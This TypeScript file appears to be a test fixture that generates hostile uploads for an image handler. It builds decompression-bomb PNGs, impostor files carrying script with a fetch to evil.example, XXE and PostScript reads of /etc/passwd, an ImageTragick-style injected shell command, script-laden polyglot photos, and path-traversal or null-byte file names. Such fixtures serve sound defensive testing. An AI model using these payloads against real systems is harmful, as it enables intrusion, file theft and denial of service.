import { crc32, deflateSync, gzipSync } from "node:zlib";
import sharp from "sharp";

export interface Hostile {
  readonly name: string;
  readonly bytes: Buffer;
}

const chunk = (type: string, data: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
};

/** A PNG of one colour: kilobytes that unfold to megabytes. `bits`: 1 or 8 for each pixel, 24 for colours. */
export const flatPng = (width: number, height: number, bits: 1 | 8 | 24, isInterlaced = false): Buffer => {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([bits === 24 ? 8 : bits, bits === 24 ? 2 : 0, 0, 0, isInterlaced ? 1 : 0], 8);
  const row = 1 + Math.ceil((width * bits) / 8);
  const pixels = deflateSync(
    Buffer.alloc(isInterlaced ? row * height + height * 8 : Math.min(row * height, 200_000_000)),
  );
  const start = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([start, chunk("IHDR", header), chunk("IDAT", pixels), chunk("IEND", Buffer.alloc(0))]);
};

const script = "<script>fetch('http://evil.example')</script><svg onload=alert(1)>";
const svg = (inner: string): string => `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20">${inner}</svg>`;

/** No photos at all, whatever they call themselves. */
const impostors = (): Hostile[] => {
  const entity = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg("<text>&x;</text>")}`;
  const texts: Record<string, string> = {
    "a.svg": svg(script),
    "b.jpg": svg(`<image href="file:///etc/passwd"/>`),
    "c.png": entity,
    "d.jpg": `<!doctype html>${script}`,
    "e.gif": `GIF89a/*${script}*/=1;`,
    "f.pdf": `%PDF-1.7\n${script}`,
    "g.jpg": "",
    "h.jpg": "PK\u0003\u0004",
    "i.jpg": `\u007fELF${"\0".repeat(60)}`,
    "j.jpg": "push graphic-context\nfill 'url(https://evil.example/\"|ls \"-la)'\n",
    "k.jpg": "%!PS\n(/etc/passwd) (r) file",
    "l.jpg": "#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 9 +X 9\n",
    "m.jpg": "P6 60000 60000 255\n",
    "n.jpg": "#EXTM3U\nhttp://evil.example",
  };
  const files = Object.entries(texts).map(([name, text]) => ({ name, bytes: Buffer.from(text) }));
  return [...files, { name: "o.svgz", bytes: gzipSync(svg(script)) }];
};

const bombs = (): Hostile[] => [
  { name: "256-megapixels.png", bytes: flatPng(16_000, 16_000, 1) },
  { name: "256-megapixels-8.png", bytes: flatPng(16_000, 16_000, 8) },
  { name: "a-thousand-megapixels.png", bytes: flatPng(32_000, 32_000, 1) },
  { name: "long.png", bytes: flatPng(1, 3_000_000, 1) },
  { name: "header-only.png", bytes: flatPng(65_000, 65_000, 1).subarray(0, 60) },
  { name: "interlaced.png", bytes: flatPng(7000, 7000, 24, true) },
  { name: "49-megapixels.png", bytes: flatPng(7000, 7000, 8) },
];

/** Photos that carry something else as well. */
const polyglots = async (photo: Buffer): Promise<Hostile[]> => {
  const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, script.length + 2]), Buffer.from(script)]);
  const png = await sharp(photo).png().toBuffer();
  const text = chunk("tEXt", Buffer.from(`Comment\0${script}`));
  const exif = await sharp(photo)
    .withExif({ IFD0: { Artist: script, Copyright: script } })
    .jpeg()
    .toBuffer();
  return [
    { name: "tail.jpg", bytes: Buffer.concat([photo, Buffer.from(script)]) },
    { name: "comment.jpg", bytes: Buffer.concat([photo.subarray(0, 2), comment, photo.subarray(2)]) },
    { name: "text.png", bytes: Buffer.concat([png.subarray(0, 33), text, png.subarray(33)]) },
    { name: "exif.jpg", bytes: exif },
    { name: "zip.jpg", bytes: Buffer.concat([photo, Buffer.from("PK\u0003\u0004archive")]) },
    { name: "page.html", bytes: Buffer.concat([photo, Buffer.from(script)]) },
  ];
};

const names = [
  "../../../keys/session-secret",
  "..\\..\\preau.sqlite",
  "/etc/cron.d/x",
  "a\0.jpg",
  `${"x".repeat(3000)}.jpg`,
  "é\u202egpj.exe",
  ".",
  "files/../../x",
];

/** So many files that nobody should send, the rest of them photos that were cut or altered. */
export const hostilePictures = async (count: number, random: () => number): Promise<Hostile[]> => {
  const { data } = await sharp({
    create: {
      width: 320,
      height: 240,
      channels: 3,
      background: "#567",
      noise: { type: "gaussian", mean: 120, sigma: 40 },
    },
  })
    .jpeg()
    .toBuffer({ resolveWithObject: true });
  const webp = await sharp(data).webp().toBuffer();
  const png = await sharp(data).png({ compressionLevel: 1 }).toBuffer();
  const all = [...impostors(), ...bombs(), ...(await polyglots(data)), ...names.map((name) => ({ name, bytes: data }))];
  const bases = [data, webp, png];
  for (let i = 0; all.length < count; i++) {
    const base = bases[i % bases.length] ?? data;
    const at = Math.floor(random() * base.length);
    if (i % 2 === 0) all.push({ name: `cut-${i}.jpg`, bytes: base.subarray(0, at) });
    else {
      const bent = Buffer.from(base);
      for (let k = 0; k < 8; k++) bent[Math.floor(random() * bent.length)] = Math.floor(random() * 256);
      all.push({ name: `bent-${i}.jpg`, bytes: bent });
    }
  }
  return all;
};
